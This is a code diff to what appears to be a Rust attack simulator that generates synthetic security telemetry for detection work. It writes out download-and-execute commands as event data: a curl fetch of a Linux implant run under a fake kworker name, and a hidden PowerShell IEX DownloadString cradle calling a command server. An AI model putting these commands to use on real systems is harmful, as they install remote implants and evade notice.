@@ -4,7 +4,7 @@ use super::advance::Hop;
 use super::{Attack, Doing};
 use crate::defence::Peer;
 use crate::movement::Via;
-use crate::telemetry::{Conn, SYSTEM, Scene, User};
+use crate::telemetry::{Conn, SYSTEM, Scene, Site, User};
 use crate::world::{Account, HostNo, Os, outside};
 
 /// The agent the attacker leaves on Windows hosts.
@@ -95,10 +95,15 @@ impl Scene<'_, '_> {
         self.linux_agent(to, User::ROOT);
     }
 
-    /// The attacker's agent is fetched and started.
+    /// The attacker's agent comes, from outside or over the session at hand, and is started.
     pub(super) fn linux_agent(&mut self, host: HostNo, user: User) {
-        let url = format!("https://{}/k", outside::COMMAND);
-        self.command(host, user, &["curl", "-sk", "-o", LINUX_AGENT, &url]);
+        if self.has_way_out(host) {
+            let url = format!("https://{}/k", outside::COMMAND);
+            self.command(host, user, &["curl", "-sk", "-o", LINUX_AGENT, &url]);
+            self.calls_home(host);
+        } else {
+            self.command(host, user, &["scp", "-t", LINUX_AGENT]);
+        }
         self.command(host, user, &["chmod", "0755", LINUX_AGENT]);
         self.execve(host, user, LINUX_AGENT, &["[kworker/u8:2]"]);
     }
@@ -171,27 +176,23 @@ impl Scene<'_, '_> {
         self.windows_loader(to, &user, "cmd.exe");
     }
 
-    /// PowerShell fetches the attacker's agent into memory.
+    /// PowerShell brings the attacker's agent into memory, from outside or from where the attacker stands.
     pub(super) fn windows_loader(&mut self, host: HostNo, user: &str, parent: &str) {
         const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-        let url = format!("https://{}/a", outside::COMMAND);
+        let source =
+            if self.has_way_out(host) { outside::COMMAND.to_string() } else { "127.0.0.1:8099".to_owned() };
         let command = format!(
-            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\""
+            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{source}/a')\""
         );
         self.process(host, user, POWERSHELL, &command, parent);
-        self.connection(host, user, POWERSHELL, outside::COMMAND, 443);
+        self.calls(host, user, POWERSHELL, outside::COMMAND);
         self.calls_home(host);
     }
 
-    /// The sensor at the border sees a nameless TLS session to the command server.
+    /// The implant speaks with the command server.
     pub(super) fn calls_home(&mut self, host: HostNo) {
-        let conn = Conn {
-            service: Some("ssl"),
-            ..Conn::tcp(Peer::Host(host), Peer::Outside(outside::COMMAND), 443)
-        };
-        if let Some(seen) = self.conn(conn) {
-            self.zeek_tls(&seen, None);
-        }
+        let (sent, received) = (self.rng.range(900, 4_000), self.rng.range(600, 9_000));
+        self.web(host, Site { name: None, address: outside::COMMAND }, sent, received);
     }
 
     fn hop_database(&mut self, from: HostNo, to: HostNo, port: u16) {
